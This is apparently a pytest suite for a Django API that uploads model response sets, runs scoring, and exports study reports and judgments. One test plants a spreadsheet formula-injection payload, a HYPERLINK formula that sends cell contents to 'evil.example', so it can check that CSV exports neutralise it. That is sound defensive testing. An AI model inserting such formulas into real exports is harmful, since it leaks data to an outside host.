"""The API end to end: upload a response set, start and poll a scoring run,
list studies, download a report and the judgments.

Cast: ``owner`` (staff, token), ``rita`` (researcher, token); study "Main"
of 6 pairs judged by ``evaluator-ada1`` (4 answers: 3 votes, 1 skip) and
``evaluator-bob2`` (2 votes).
"""
from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest
from django.test import Client, override_settings
from django.urls import reverse

from annotate.api.services import api_token_create
from annotate.catalog.forms import NOTHING_UPLOADED
from annotate.catalog.loaders.harness import NO_LOGS
from annotate.catalog.loaders.tabular import NUL_CHARACTER
from annotate.models import (
    Dataset,
    Judgment,
    LanguageModel,
    ModelResult,
    Question,
    QuestionResult,
    ResponseSet,
    RunStatus,
    ScoringRun,
    Subject,
    UploadJob,
)
from annotate.studies.services.participation import ensure_role_groups
from tests.annotate.factories import judge, make_catalog, make_evaluator, make_study, make_user, stored_responses

pytestmark = pytest.mark.django_db

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
DATABASE = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
# 2 models x 3 questions, one cell missing (m2 never answered q3): 5 observed responses.
LONG_CSV = b"model,question_id,credit\nm1,q1,1\nm1,q2,0\nm1,q3,0.5\nm2,q1,1\nm2,q2,1\n"
# Row 3 (the header is row 1) has a credit outside [0, 1]; row 5 a non-number.
BAD_CSV = b"model,question_id,credit\nm1,q1,1\nm1,q2,1.7\nm2,q1,0\nm2,q2,abc\n"


@pytest.fixture
def cast():
    catalog = make_catalog(per_subject=4)
    study = make_study(catalog, n_pairs=6, name="Main")
    judge(make_evaluator(study, "evaluator-ada1"), ["left", "right", "skip", "left"])
    judge(make_evaluator(study, "evaluator-bob2"), ["right", "right"])
    researchers, _ = ensure_role_groups()
    rita = make_user("rita")
    rita.groups.add(researchers)
    study.members.add(rita)
    owner = make_user("owner", staff=True)
    return catalog, study, Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=owner)[1]}"), \
        Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=rita)[1]}")


@pytest.fixture(autouse=True)
def _loads_run_inline(settings):
    """Uploads are loaded by the task worker; here it runs inline at once (a test below uses the queue)."""
    settings.TASKS = IMMEDIATE


def upload(client: Client, content: bytes, name: str = "responses.csv", **fields):
    file = io.BytesIO(content)
    file.name = name
    return client.post(reverse("annotate:api_response_sets"), {"responses": file, "dataset": "api-bench", **fields})


# --- response sets ------------------------------------------------------------------


def test_a_staff_script_uploads_a_response_set(cast):
    _, _, staff, _ = cast
    response = upload(staff, LONG_CSV, name="nightly.csv")
    assert response.status_code == 202
    job = response.json()
    assert response["Location"] == reverse("annotate:api_upload", kwargs={"upload_id": job["id"]})
    assert (job["state"], job["n_done"], job["n_total"], job["error"], job["problems"]) == ("done", 5, 5, "", [])
    assert staff.get(response["Location"]).json() == job
    assert job["response_set_url"] == reverse("annotate:api_response_set",
                                              kwargs={"response_set_id": job["response_set"]})
    body = staff.get(job["response_set_url"]).json()
    assert (body["name"], body["version"], body["n_responses"], body["n_questions"], body["n_models"]) == (
        "nightly", 1, 5, 3, 2)
    stored = ResponseSet.objects.get(pk=job["response_set"])
    credits = {(m, q): c for q, m, c in stored_responses(stored)}
    assert credits == {("m1", "q1"): 1.0, ("m1", "q2"): 0.0, ("m1", "q3"): 0.5, ("m2", "q1"): 1.0, ("m2", "q2"): 1.0}
    assert body["checksum"] == stored.checksum
    listed = staff.get(reverse("annotate:api_response_sets")).json()["response_sets"]
    assert next(rs["id"] for rs in listed) == body["id"]


def test_a_refused_upload_lists_its_problems_by_file_row_and_column(cast):
    _, _, staff, _ = cast
    before = (ResponseSet.objects.count(), Question.objects.count(), LanguageModel.objects.count())
    response = upload(staff, BAD_CSV)
    assert response.status_code == 202
    body = staff.get(response["Location"]).json()
    assert (body["state"], body["error"], body["response_set"]) == ("failed", "nothing was loaded", None)
    located = {(p["file"], p["row"], p["column"]) for p in body["problems"]}
    assert ("responses.csv", 3, "credit") in located and ("responses.csv", 5, "credit") in located
    assert all("eip-api-upload" not in p["file"] + p["message"] for p in body["problems"])  # no temp paths
    assert (ResponseSet.objects.count(), Question.objects.count(), LanguageModel.objects.count()) == before


@pytest.mark.parametrize(
    ("content", "name", "row"),
    [
        (b"model,question_id,credit\nm1,q1,1\nm2,q\x001,0\n", "responses.csv", 3),
        (b'{"model": "m1", "question_id": "q1", "credit": 1}\n{"model": "m\\u0000", "question_id": "q1", '
         b'"credit": 0}\n', "responses.jsonl", 2),
    ],
)
def test_a_nul_character_is_a_located_problem_not_a_server_error(cast, content, name, row):
    # PostgreSQL cannot store NUL in text; SQLite would have loaded it (found while fuzzing the API)
    _, _, staff, _ = cast
    before = ResponseSet.objects.count()
    response = upload(staff, content, name=name)
    assert response.status_code == 202 and response.json()["state"] == "failed"
    assert response.json()["problems"] == [{"file": name, "row": row, "column": None, "message": NUL_CHARACTER}]
    assert ResponseSet.objects.count() == before


def test_a_dry_run_previews_and_writes_nothing(cast):
    _, _, staff, _ = cast
    before = (ResponseSet.objects.count(), Dataset.objects.count(), Question.objects.count())
    response = upload(staff, LONG_CSV, dry_run="true")
    assert response.status_code == 200
    preview = response.json()["preview"]
    assert (preview["n_responses"], preview["questions_new"], preview["models_new"], preview["datasets_new"]) == (
        5, 3, 2, 1)
    assert (ResponseSet.objects.count(), Dataset.objects.count(), Question.objects.count()) == before


def test_a_second_upload_of_the_same_bytes_is_refused(cast):
    _, _, staff, _ = cast
    first = upload(staff, LONG_CSV, name="a.csv").json()
    assert first["state"] == "done"
    again = upload(staff, LONG_CSV, name="a.csv")  # refused in the request, from the checksum alone
    assert again.status_code == 400
    existing = ResponseSet.objects.get(pk=first["response_set"])
    assert again.json()["problems"] == [{"file": "a.csv", "row": None, "column": None, "message": (
        f"these files were already loaded as response set '{existing}' (id {existing.pk}); nothing was written")}]
    assert UploadJob.objects.count() == 1


def test_form_errors_name_the_field(cast):
    _, _, staff, _ = cast
    response = staff.post(reverse("annotate:api_response_sets"), {"dataset": "x"})
    assert response.status_code == 400
    assert response.json() == {"error": "the upload's fields are invalid", "fields": {"__all__": [NOTHING_UPLOADED]}}
    response = upload(staff, LONG_CSV, file_format="helm")
    assert response.json()["fields"] == {
        "file_format": ["helm is a harness-log format; it cannot read a responses file"],
    }


def test_a_flag_that_is_not_a_boolean_is_refused_not_read_as_false(cast):
    # documented change (issue 11): before django-ninja, dry_run=maybe loaded the file
    _, _, staff, _ = cast
    before = ResponseSet.objects.count()
    response = upload(staff, LONG_CSV, dry_run="maybe")
    assert response.status_code == 400
    assert response.json() == {"error": "the upload's fields are invalid",
                               "fields": {"dry_run": ["Input should be a valid boolean, unable to interpret input"]}}
    assert ResponseSet.objects.count() == before
    assert upload(staff, LONG_CSV, dry_run="false").status_code == 202


def test_harness_logs_are_read_by_the_same_loaders_as_the_admin_and_the_command(cast):
    # Documented change: the API used to refuse logs; now a log that is not one is a located problem.
    # (A whole log upload through API, admin and command is in tests/annotate/catalog/test_uploads.py.)
    _, _, staff, _ = cast
    log = io.BytesIO(b"{}")
    log.name = "results.json"
    response = staff.post(reverse("annotate:api_response_sets"), {"logs": log})
    assert response.status_code == 202
    body = response.json()
    assert (body["state"], body["error"], body["problems"]) == ("failed", "nothing was loaded", [
        {"file": "logs", "row": None, "column": None, "message": NO_LOGS.format(files="1 file")}])


def test_with_the_database_queue_an_upload_waits_for_the_worker(cast, settings):
    from django_tasks_db.models import DBTaskResult

    from annotate.catalog.tasks import load_upload

    _, _, staff, _ = cast
    settings.TASKS = DATABASE
    response = upload(staff, LONG_CSV, name="queued.csv")
    job = response.json()
    assert response.status_code == 202 and (job["state"], job["response_set"]) == ("queued", None)
    task = DBTaskResult.objects.get(args_kwargs__args=[job["id"]])
    assert ResponseSet.objects.filter(name="queued").count() == 0
    assert load_upload.call(*task.task_result.args) == {"job_id": job["id"], "state": "done",
                                                        "response_set": ResponseSet.objects.get(name="queued").pk}
    assert staff.get(response["Location"]).json()["state"] == "done"


def test_a_researcher_cannot_upload(cast):
    _, _, _, researcher = cast
    before = ResponseSet.objects.count()
    assert upload(researcher, LONG_CSV).status_code == 403
    assert ResponseSet.objects.count() == before


# --- scoring runs -------------------------------------------------------------------


def test_a_script_starts_a_run_and_polls_it_to_done(cast):
    catalog, _, staff, _ = cast
    with override_settings(TASKS=IMMEDIATE):
        response = staff.post(reverse("annotate:api_scoring_runs"), {"response_set": catalog.response_set.pk,
                                                             "params": {"methods": ["eip", "accuracy"]}},
                              content_type="application/json")
    assert response.status_code == 202, response.content
    polled = staff.get(response["Location"]).json()
    assert (polled["status"], polled["progress"]) == ("done", 1.0)
    assert [(m["method"], m["label"]) for m in polled["methods"]] == [("eip", "EIP"), ("accuracy", "Accuracy")]
    assert polled["params"]["methods"] == ["eip", "accuracy"]


def test_with_the_database_queue_the_run_waits_for_the_worker(cast):
    from django_tasks_db.models import DBTaskResult

    catalog, _, staff, _ = cast
    with override_settings(TASKS=DATABASE):
        response = staff.post(reverse("annotate:api_scoring_runs"), {"response_set": catalog.response_set.pk},
                              content_type="application/json")
    assert response.status_code == 202 and response.json()["status"] == "queued"
    run = ScoringRun.objects.get(pk=response.json()["id"])
    assert run.status == RunStatus.QUEUED
    assert DBTaskResult.objects.filter(args_kwargs__args=[run.pk]).count() == 1


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("not json", "the request body must be a JSON object"),
        ("", "the request body must be a JSON object"),
        ("[1, 2]", "the request body must be a JSON object"),
        ('{"response_set": 1, "colour": "red"}',
         "unknown key(s) ['colour']; known: ['response_set', 'model_ids', 'dataset_ids', 'params']"),
        ('{"response_set": 999999}', "response_set must be the id of an existing response set; got 999999"),
        ('{"response_set": true}', "response_set must be the id of an existing response set; got True"),
        ('{"response_set": 1, "model_ids": [1, "x"]}',
         "model_ids.1: Input should be a valid integer, unable to parse string as an integer"),
    ],
)
def test_a_bad_run_request_is_refused_and_creates_nothing(cast, body, message):
    _, _, staff, _ = cast
    before = ScoringRun.objects.count()
    response = staff.post(reverse("annotate:api_scoring_runs"), body, content_type="application/json")
    assert response.status_code == 400 and response.json() == {"error": message}
    assert ScoringRun.objects.count() == before


def test_the_scoring_service_checks_the_params(cast):
    catalog, _, staff, _ = cast
    response = staff.post(reverse("annotate:api_scoring_runs"), {"response_set": catalog.response_set.pk,
                                                         "params": {"alpha": 1.5}}, content_type="application/json")
    assert response.status_code == 400 and response.json() == {"error": "alpha must be a number in (0, 1); got 1.5"}


def test_an_unknown_run_is_a_json_404(cast):
    _, _, staff, _ = cast
    response = staff.get(reverse("annotate:api_scoring_run", kwargs={"run_id": 424242}))
    assert response.status_code == 404 and response.json() == {"error": "no scoring run 424242"}
    response = staff.get(reverse("annotate:api_scoring_run", kwargs={"run_id": 0}))  # ids start at 1: none, not invalid
    assert response.status_code == 404 and response.json() == {"error": "no scoring run 0"}


# --- studies, reports, judgments ----------------------------------------------------


def test_a_researcher_lists_the_studies_with_counts(cast):
    _, study, _, researcher = cast
    studies = researcher.get(reverse("annotate:api_studies")).json()["studies"]
    main = next(s for s in studies if s["id"] == study.pk)
    # ada: 3 votes + 1 skip, bob: 2 votes -> 5 votes from 2 evaluators
    assert (main["name"], main["n_pairs"], main["n_evaluators"], main["n_judgments"]) == ("Main", 6, 2, 5)


def test_a_researcher_downloads_the_judgments_as_json_and_csv(cast):
    _, study, _, researcher = cast
    url = reverse("annotate:api_study_judgments", kwargs={"study_id": study.pk})
    rows = researcher.get(url).json()["judgments"]
    assert len(rows) == Judgment.objects.filter(pair__study=study).count() == 6
    assert sorted({r["evaluator"] for r in rows}) == ["evaluator-ada1", "evaluator-bob2"]
    assert sorted(r["choice"] for r in rows) == ["left", "left", "right", "right", "right", "skip"]
    response = researcher.get(url, {"format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="study-{study.pk}_judgments.csv"'
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(table) == 6 and {r["evaluator"] for r in table} == {"evaluator-ada1", "evaluator-bob2"}


def test_a_researcher_downloads_the_report(cast):
    _, study, _, researcher = cast
    url = reverse("annotate:api_study_report", kwargs={"study_id": study.pk})
    report = researcher.get(url, {"n_boot": 20}).json()
    assert report["study"]["id"] == study.pk and "schema_version" in report
    as_csv = researcher.get(url, {"n_boot": 20, "format": "csv"})
    assert as_csv.status_code == 200 and as_csv["Content-Type"] == "text/csv; charset=utf-8"


def test_the_api_report_pages_its_pairs_like_the_json_download(cast, monkeypatch):
    """The API's JSON holds one page of pairs (``?pairs_offset=``, ``pairs_page``), as report.json does."""
    _, study, _, researcher = cast
    url = reverse("annotate:api_study_report", kwargs={"study_id": study.pk})
    whole = researcher.get(url, {"n_boot": 20}).json()
    total = len(whole["pairs"])
    assert total >= 3 and whole["pairs_page"] == {"offset": 0, "count": total, "total": total}
    monkeypatch.setattr("annotate.api.views.JSON_PAIRS_LIMIT", 2)
    page = researcher.get(url, {"n_boot": 20, "pairs_offset": 1}).json()
    assert page["pairs_page"] == {"offset": 1, "count": 2, "total": total}
    assert page["pairs"] == whole["pairs"][1:3]
    assert page["human_scale"] == whole["human_scale"]  # the rest of the report is whole
    bad = researcher.get(url, {"pairs_offset": "-1"})
    assert bad.status_code == 400 and "pairs_offset" in bad.json()["error"]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"format": "xml"}, "format must be one of ['json', 'csv']; got 'xml'"),
        ({"n_boot": "many"}, "n_boot must be an integer; got 'many'"),
        ({"run": "987654"}, "run must be the id of an existing scoring run; got 987654"),
        # documented change (issue 11): the report page's bounds
        ({"n_boot": "20001"}, "n_boot: Input should be less than or equal to 20000"),
        ({"min_votes": "0"}, "min_votes: Input should be greater than or equal to 1"),
        ({"tie_rule": "coin"}, "tie_rule: Input should be 'evaluator_weight' or 'none'"),
    ],
)
def test_bad_report_parameters_are_400(cast, query, message):
    _, study, _, researcher = cast
    response = researcher.get(reverse("annotate:api_study_report", kwargs={"study_id": study.pk}), query)
    assert response.status_code == 400 and response.json() == {"error": message}


def test_judgment_exports_carry_the_formula_injection_guard(cast):
    catalog, study, _, researcher = cast
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Subject.objects.filter(pk=catalog.subjects[0].pk).update(name="@SUM(1+1)")
    for k, question in enumerate(Question.objects.filter(pk__in=[q.pk for q in catalog.questions])):
        question.external_id = f"{hostile}{k}"
        question.text = hostile
        question.save()
    response = researcher.get(reverse("annotate:api_study_judgments", kwargs={"study_id": study.pk}), {"format": "csv"})
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [row[c] for row in table for c in ("question_a", "question_b", "left_question", "right_question")]
    assert cells and all(cell.startswith("'=HYPERLINK(") for cell in cells)
    subjects = {row["subject"] for row in table}
    assert subjects <= {"'@SUM(1+1)", "Physics"} and "'@SUM(1+1)" in subjects
    assert not any(line.startswith(("=", "@")) for line in response.content.decode("utf-8-sig").splitlines())


# --- run tables (tidy CSV and Parquet) --------------------------------------------------------


def test_a_researcher_downloads_a_runs_question_difficulty_and_leaderboard(cast):
    catalog, _, _, researcher = cast
    run = catalog.run
    url = reverse("annotate:api_scoring_run_questions", kwargs={"run_id": run.pk})
    response = researcher.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="run-{run.pk}-')
    frame = pd.read_csv(io.BytesIO(b"".join(response.streaming_content)))
    assert str(frame["question_pk"].dtype) == "int64"
    stored = {r.question_id: r.scores for r in QuestionResult.objects.filter(run=run)}
    assert sorted(frame["question_pk"]) == sorted(stored)
    for row in frame.itertuples():
        assert row.eip_scaled == stored[row.question_pk]["eip_scaled"]
        assert row.irt_2pl == stored[row.question_pk]["irt_2pl"]
        assert math.isnan(row.irt_2pl_discrimination)  # the catalog stores none: blank = missing
    parquet = researcher.get(url + "?format=parquet")
    assert parquet["Content-Type"] == "application/vnd.apache.parquet"
    pd.testing.assert_frame_equal(pd.read_parquet(io.BytesIO(b"".join(parquet.streaming_content))), frame,
                                  check_dtype=False)

    models = pd.read_csv(io.BytesIO(b"".join(researcher.get(
        reverse("annotate:api_scoring_run_models", kwargs={"run_id": run.pk})).streaming_content)))
    stored_models = {r.model_id: r.scores for r in ModelResult.objects.filter(run=run)}
    assert {int(r.model_id): r.accuracy for r in models.itertuples()} == {
        k: v["accuracy"] for k, v in stored_models.items()}


def test_run_table_errors_are_json(cast):
    catalog, _, _, researcher = cast
    url = reverse("annotate:api_scoring_run_questions", kwargs={"run_id": catalog.run.pk})
    assert researcher.get(url + "?format=xml").status_code == 400
    missing = researcher.get(reverse("annotate:api_scoring_run_models", kwargs={"run_id": 999999}))
    assert (missing.status_code, missing.json()) == (404, {"error": "no finished scoring run 999999"})
    assert Client().get(url).status_code == 401


def test_an_api_upload_names_the_models_file_column(cast):
    _, _, staff, _ = cast
    models = io.BytesIO(b"model_repr,family\nm1,alpha\nm2,beta\n")
    models.name = "models.csv"
    response = upload(staff, LONG_CSV, name="named.csv", models=models, model_column="model_repr")
    assert response.status_code == 202 and response.json()["state"] == "done"
    assert dict(LanguageModel.objects.filter(name__in=["m1", "m2"]).values_list("name", "family")) == {
        "m1": "alpha", "m2": "beta"}
